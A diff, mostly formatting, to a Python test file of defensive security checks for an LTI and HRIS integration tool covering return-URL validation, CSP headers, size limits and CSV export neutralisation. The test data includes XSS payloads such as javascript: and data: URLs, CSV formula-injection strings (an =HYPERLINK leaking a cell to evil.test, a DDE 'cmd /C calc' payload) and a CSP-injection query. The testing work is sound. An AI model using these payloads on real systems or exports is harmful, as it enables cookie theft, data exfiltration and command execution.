@@ -1,6 +1,7 @@
 """Trust boundaries, attacked as an outsider, a broken platform or poisoned HRIS data would: deep-linking
 return URLs, security headers, size limits, the foreign browser, refused launches, time claims, CSV cells,
 Workday Basic credentials over http. Each asserts what was refused and that nothing was stored or signed."""
+
 from __future__ import annotations
 
 import csv
@@ -39,25 +40,36 @@ def launches_in_redis(tool) -> list:
 
 def deep_link(client, platform, return_url: str):
     state, nonce = login(client, platform)
-    claims = platform.claims(nonce, roles=[INSTRUCTOR], **{
-        CLAIM + "message_type": "LtiDeepLinkingRequest", CLAIM + "resource_link": None,
-        DL: {"deep_link_return_url": return_url, "accept_types": ["ltiResourceLink"],
-             "accept_presentation_document_targets": ["iframe"]}})
+    claims = platform.claims(
+        nonce,
+        roles=[INSTRUCTOR],
+        **{
+            CLAIM + "message_type": "LtiDeepLinkingRequest",
+            CLAIM + "resource_link": None,
+            DL: {
+                "deep_link_return_url": return_url,
+                "accept_types": ["ltiResourceLink"],
+                "accept_presentation_document_targets": ["iframe"],
+            },
+        },
+    )
     response = launch(client, platform.sign(claims), state)
     assert response.status_code == 303, reason(response)
     return response.headers["Location"]
 
 
-@pytest.mark.parametrize("return_url", [
-    "https://evil.test/dl/return",
-    "javascript:alert(document.cookie)",
-    "http://lms.test/dl/return",  # the right host, in clear
-    "https://lms.test.evil.test/dl/return",
-    "//evil.test/dl/return",
-    "data:text/html,<script>alert(1)</script>",
-])
-def test_untrusted_deep_linking_return_urls_are_refused_before_anything_is_signed(org, browser, platform,
-                                                                                  return_url):
+@pytest.mark.parametrize(
+    "return_url",
+    [
+        "https://evil.test/dl/return",
+        "javascript:alert(document.cookie)",
+        "http://lms.test/dl/return",  # the right host, in clear
+        "https://lms.test.evil.test/dl/return",
+        "//evil.test/dl/return",
+        "data:text/html,<script>alert(1)</script>",
+    ],
+)
+def test_untrusted_deep_linking_return_urls_are_refused_before_anything_is_signed(org, browser, platform, return_url):
     where = deep_link(browser, platform, return_url)
     page = browser.get(where, base_url=BASE)
     assert page.status_code == 400 and reason(page) == "return_url_not_trusted"
@@ -93,8 +105,17 @@ def test_http_return_urls_only_on_loopback_outside_production(tool, settings):
     from plugin.lti.rejection import LaunchRejected
     from plugin.lti.tool_conf import RegistrationSnapshot
 
-    row = RegistrationSnapshot(1, "http://127.0.0.1:8080", "c", "http://127.0.0.1:8080/auth",
-                               "http://127.0.0.1:8080/token", None, None, None, ())
+    row = RegistrationSnapshot(
+        1,
+        "http://127.0.0.1:8080",
+        "c",
+        "http://127.0.0.1:8080/auth",
+        "http://127.0.0.1:8080/token",
+        None,
+        None,
+        None,
+        (),
+    )
 
     class Conf:
         def row(self, iss, client_id):
@@ -107,9 +128,16 @@ def test_http_return_urls_only_on_loopback_outside_production(tool, settings):
 
 
 def test_every_page_carries_a_strict_policy_and_inline_scripts_carry_its_nonce(org, browser, platform):
-    login_page = browser.post("/lti/login", base_url=BASE, data={
-        "iss": platform.issuer, "login_hint": "u", "client_id": platform.client_id,
-        "target_link_uri": BASE + "/lti/launch"})
+    login_page = browser.post(
+        "/lti/login",
+        base_url=BASE,
+        data={
+            "iss": platform.issuer,
+            "login_hint": "u",
+            "client_id": platform.client_id,
+            "target_link_uri": BASE + "/lti/launch",
+        },
+    )
     policy = login_page.headers["Content-Security-Policy"]
     assert "script-src 'self'" in policy and "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
     assert "frame-ancestors 'self' https://lms.test" in policy and "object-src 'none'" in policy
@@ -150,11 +178,21 @@ def test_an_oversized_id_token_is_refused_before_parsing_and_nothing_is_kept(org
 
 def test_claims_kept_for_deep_linking_are_only_those_flipside_reads(org, browser, platform):
     state, nonce = login(browser, platform)
-    claims = platform.claims(nonce, roles=[INSTRUCTOR], junk={"a": "b" * 5000}, **{
-        CLAIM + "message_type": "LtiDeepLinkingRequest", CLAIM + "resource_link": None,
-        CLAIM + "custom": {"note": "y" * 9000},
-        DL: {"deep_link_return_url": "https://lms.test/dl/return", "accept_types": ["ltiResourceLink"],
-             "accept_presentation_document_targets": ["iframe"]}})
+    claims = platform.claims(
+        nonce,
+        roles=[INSTRUCTOR],
+        junk={"a": "b" * 5000},
+        **{
+            CLAIM + "message_type": "LtiDeepLinkingRequest",
+            CLAIM + "resource_link": None,
+            CLAIM + "custom": {"note": "y" * 9000},
+            DL: {
+                "deep_link_return_url": "https://lms.test/dl/return",
+                "accept_types": ["ltiResourceLink"],
+                "accept_presentation_document_targets": ["iframe"],
+            },
+        },
+    )
     response = launch(browser, platform.sign(claims), state)
     assert response.status_code == 303, reason(response)
     [key] = launches_in_redis(browser.application)
@@ -175,11 +213,14 @@ def test_a_foreign_browsers_post_does_not_spend_the_real_browsers_state(org, too
     assert launch(browser, token, state).status_code == 303  # the real browser still gets in
 
 
-@pytest.mark.parametrize("roles,email", [
-    (["http://purl.imsglobal.org/vocab/lis/v2/membership#Mentor"], "ada@example.com"),
-    (["http://evil.test/x#Administrator"], "ada@example.com"),
-    (["http://purl.imsglobal.org/vocab/lis/v2/membership#Learner"], "nobody@example.com"),
-])
+@pytest.mark.parametrize(
+    "roles,email",
+    [
+        (["http://purl.imsglobal.org/vocab/lis/v2/membership#Mentor"], "ada@example.com"),
+        (["http://evil.test/x#Administrator"], "ada@example.com"),
+        (["http://purl.imsglobal.org/vocab/lis/v2/membership#Learner"], "nobody@example.com"),
+    ],
+)
 def test_a_launch_refused_after_validation_forgets_its_record(org, tool, browser, platform, roles, email):
     state, nonce = login(browser, platform)
     response = launch(browser, platform.sign(platform.claims(nonce, roles=roles, email=email)), state)
@@ -187,8 +228,9 @@ def test_a_launch_refused_after_validation_forgets_its_record(org, tool, browser
     assert browser.get("/me/", base_url=BASE).status_code == 401
 
 
-@pytest.mark.parametrize("field,value", [("exp", "9999999999"), ("iat", "1"), ("exp", True), ("iat", None),
-                                         ("nbf", "0")])
+@pytest.mark.parametrize(
+    "field,value", [("exp", "9999999999"), ("iat", "1"), ("exp", True), ("iat", None), ("nbf", "0")]
+)
 def test_time_claims_must_be_json_numbers(org, browser, platform, field, value):
     state, nonce = login(browser, platform)
     claims = {**platform.claims(nonce), field: value}
@@ -210,16 +252,21 @@ def test_the_global_body_limit_and_the_larger_csv_import_limit(app, client, make
     big_form = client.post("/admin/programmes/new?step=basics", data={"csrf_token": "t", "name": "x" * 1_200_000})
     assert big_form.status_code == 413
     rows = "work_email,languages\n" + "nobody@example.test,en\n" * 80_000  # about 1.9 MB
-    upload = client.post(f"/admin/programmes/{programme.id}/participants/import", content_type="multipart/form-data",
-                         data={"csrf_token": "t", "file": (io.BytesIO(rows.encode()), "profiles.csv")})
+    upload = client.post(
+        f"/admin/programmes/{programme.id}/participants/import",
+        content_type="multipart/form-data",
+        data={"csrf_token": "t", "file": (io.BytesIO(rows.encode()), "profiles.csv")},
+    )
     assert upload.status_code == 200
-    too_big = client.post(f"/admin/programmes/{programme.id}/participants/import", content_type="multipart/form-data",
-                          data={"csrf_token": "t", "file": (io.BytesIO(b"x" * 6_000_000), "profiles.csv")})
+    too_big = client.post(
+        f"/admin/programmes/{programme.id}/participants/import",
+        content_type="multipart/form-data",
+        data={"csrf_token": "t", "file": (io.BytesIO(b"x" * 6_000_000), "profiles.csv")},
+    )
     assert too_big.status_code == 413
 
 
-FORMULAS = ['=HYPERLINK("https://evil.test/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
-            "\t=1", "\r=1"]
+FORMULAS = ['=HYPERLINK("https://evil.test/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1", "\r=1"]
 
 
 def _cells(text: str) -> list[str]:
@@ -250,38 +297,65 @@ def test_the_participants_export_neutralises_hris_text(app, client, make_org, se
 
 def test_the_impact_and_insights_exports_neutralise_text_cells():
     interval = Interval(-0.05, -0.1, 0.02)
-    cell = ImpactCell(group="=evil()", outcome="retained", months=12, status="shown", participants=9,
-                      comparison=20, unmatched=0, participant_rate=0.9, comparison_rate=0.95,
-                      absolute=interval, relative=interval)
+    cell = ImpactCell(
+        group="=evil()",
+        outcome="retained",
+        months=12,
+        status="shown",
+        participants=9,
+        comparison=20,
+        unmatched=0,
+        participant_rate=0.9,
+        comparison_rate=0.95,
+        absolute=interval,
+        relative=interval,
+    )
     report = ImpactReport(date(2025, 1, 1), date(2026, 1, 1), ImpactSettings(), [cell])
     cells = _cells(impact.impact_csv(report))
     assert "'=evil()" in cells and "-0.05" in cells  # negative lifts stay numbers
-    insight = insights.InsightReport(by=("function",), threshold=5, cutoff=date(2026, 1, 5),
-                                     cells=[InsightCell(("+SUM(A1)",), 7, 7, {"q1": 4.0}),
-                                            replace(InsightCell(("@x",), None, None, None))])
+    insight = insights.InsightReport(
+        by=("function",),
+        threshold=5,
+        cutoff=date(2026, 1, 5),
+        cells=[InsightCell(("+SUM(A1)",), 7, 7, {"q1": 4.0}), replace(InsightCell(("@x",), None, None, None))],
+    )
     cells = _cells(insights.to_csv(insight))
     assert "'+SUM(A1)" in cells and "'@x" in cells and "<5" in cells
 
 
 def test_production_refuses_workday_basic_credentials_over_http(settings, make_org, vault):
-    app = create_app(replace(settings, env="production", base_url="https://tool.example",
-                             secret_key="s" * 40, encryption_keys=settings.encryption_keys[:0] or (
-                                 "Zmxp" + "c" * 39 + "=",)))
+    app = create_app(
+        replace(
+            settings,
+            env="production",
+            base_url="https://tool.example",
+            secret_key="s" * 40,
+            encryption_keys=settings.encryption_keys[:0] or ("Zmxp" + "c" * 39 + "=",),
+        )
+    )
     client = app.test_client()
     body = b"<env:Envelope/>"
     headers = {"Authorization": "Basic d29ya2RheS1pc3U6bjB0aWZ5", "Content-Type": "text/xml"}
     plain = client.post("/webhooks/workday/1", data=body, headers=headers, base_url="http://tool.example")
     assert plain.status_code == 403 and plain.json["error"]["code"] == "https_required"
-    proxied = client.post("/webhooks/workday/1", data=body, base_url="http://tool.example",
-                          headers={**headers, "X-Forwarded-Proto": "https"})
+    proxied = client.post(
+        "/webhooks/workday/1",
+        data=body,
+        base_url="http://tool.example",
+        headers={**headers, "X-Forwarded-Proto": "https"},
+    )
     assert proxied.status_code == 401  # over https it goes on to authentication (no such connection)
 
 
 def test_the_registration_dialog_may_be_framed_by_the_registering_lms_only(tool):
-    page = tool.test_client().get("/lti/register", base_url=BASE, query_string={
-        "openid_configuration": "https://school.instructure.com/api/lti/security/openid-configuration"})
+    page = tool.test_client().get(
+        "/lti/register",
+        base_url=BASE,
+        query_string={"openid_configuration": "https://school.instructure.com/api/lti/security/openid-configuration"},
+    )
     policy = page.headers["Content-Security-Policy"]
     assert "https://school.instructure.com" in policy.split("frame-ancestors")[1]
-    injected = tool.test_client().get("/lti/register", base_url=BASE, query_string={
-        "openid_configuration": "https://a.test;script-src *"})
+    injected = tool.test_client().get(
+        "/lti/register", base_url=BASE, query_string={"openid_configuration": "https://a.test;script-src *"}
+    )
     assert "script-src *" not in injected.headers["Content-Security-Policy"]
